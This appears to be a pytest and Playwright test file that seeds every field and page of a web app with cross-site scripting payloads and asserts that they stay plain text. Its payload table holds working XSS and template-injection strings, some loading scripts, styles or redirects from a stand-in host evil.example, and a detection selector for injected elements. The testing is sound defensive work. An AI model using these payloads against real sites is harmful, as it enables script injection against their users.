"""Whatever is typed here or sent by others stays text: a table of payloads, in every field, on every page.

No element is there that the pages don't make themselves; and where a real browser shows the pages, no dialog
opens, nothing is asked of another server, and the security policy has nothing to stop.
"""

from collections.abc import Awaitable, Callable

import httpx
import pytest
from playwright.async_api import Browser

from tests.journeys.devices import Device
from tests.support.founding import Founded
from tests.support.window import Window, window
from tests.web.pages.furnishing import furnish
from tests.web.pages.test_every_page import addresses, addresses_of_strangers

pytestmark = [pytest.mark.browser, pytest.mark.anyio]

PAYLOADS = {
    "script": "<script>alert(1)</script><script src=https://evil.example/x.js></script>",
    "attribute": "\"'><img src=https://evil.example/x onerror=alert(1)>",
    "markdown": "[a](javascript:alert(1)) ![p](https://evil.example/p.png) <https://evil.example>",
    "closing": "</textarea></title></option></style><svg onload=alert(1)><iframe src=https://evil.example/>",
    "styles": "<style>@import 'https://evil.example/x.css'</style><b style='background:url(//evil.example)'>",
    "moving": "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "template": "{{ 7 * 7191 }} {% raw %} ${alert(1)} %(title)s {0.__class__}",
}
# What has no business on a page of ours outside of its head, or anywhere.
STRANGE = (
    "script[src]:not([src^='/static/']),"
    " main script:not([type='application/ld+json']), iframe:not([sandbox=''][src^='/admin/newsletter/']),"
    " object, embed, base, meta[http-equiv], style,"
    " [style], main link, main img[src^='http'], [href^='javascript:' i], [action^='http']"
)
DESK = Device("desk")


async def shown(opened: Window, client: httpx.AsyncClient, address: str) -> list[str]:
    """What is on a page that it did not make, once it is loaded with all that belongs to it."""
    status = await opened.goes(address)
    return [*answered(status), *await opened.page.evaluate(LOOK, [STRANGE, None])]


async def parsed(opened: Window, client: httpx.AsyncClient, address: str) -> list[str]:
    """What the browser's parser finds that the page did not make; nothing of it is run or loaded."""
    answer = await client.get(address, headers={"Accept": "text/html"}, follow_redirects=True)
    return [*answered(answer.status_code), *await opened.page.evaluate(LOOK, [STRANGE, answer.text])]


def answered(status: int) -> list[str]:
    """What is wrong with the answer itself."""
    return [f"answers {status}"] if status >= 500 else []


LOOK = """([strange, html]) => {
  const page = html === null ? document : new DOMParser().parseFromString(html, 'text/html');
  const own = [...page.querySelectorAll('script')].map(one => one.textContent);
  const text = own.reduce((text, script) => text.replace(script, ''), page.body.textContent);
  return [
    ...[...page.querySelectorAll(strange)].map(one => one.outerHTML.slice(0, 200)),
    ...[...page.querySelectorAll('*')]
      .filter(one => one.getAttributeNames().some(name => name.startsWith('on')))
      .map(one => one.outerHTML.slice(0, 200)),
    ...(text.includes('50337') ? ['calculates'] : []),
  ];
}"""

# Each is read by the browser's parser, which finds every element and attribute that came of it. What would
# run, load or be stopped by the policy is shown as people see it, too, which takes ten times as long.
# No longer than the shortest fields that texts are cut to for this.
SHOWN = {
    "run": "\"'><script>alert(1)</script><img src=//evil.example onerror=alert(1)>",
    "styled": "<b style='background:url(//evil.example)'><style>@import '//evil.example'</style>",
}


@pytest.mark.parametrize(
    ("payload", "look"),
    [*((one, parsed) for one in PAYLOADS.values()), *((one, shown) for one in SHOWN.values())],
    ids=[*PAYLOADS, *SHOWN],
)
async def test_text_stays_text_on_every_page(
    founded: Founded,
    ada: httpx.AsyncClient,
    stranger: httpx.AsyncClient,
    browser: Browser,
    payload: str,
    look: Callable[[Window, httpx.AsyncClient, str], Awaitable[list[str]]],
) -> None:
    there = await furnish(founded, payload)
    found = []

    for client, pages in ((ada, addresses(there)), (stranger, addresses_of_strangers(there))):
        async with window(browser, client, DESK) as opened:
            for address in (address for several in pages.values() for address in several):
                found += [f"{address}: {what}" for what in await look(opened, client, address)]
            found += opened.wrong

    assert "\n".join(found) == ""
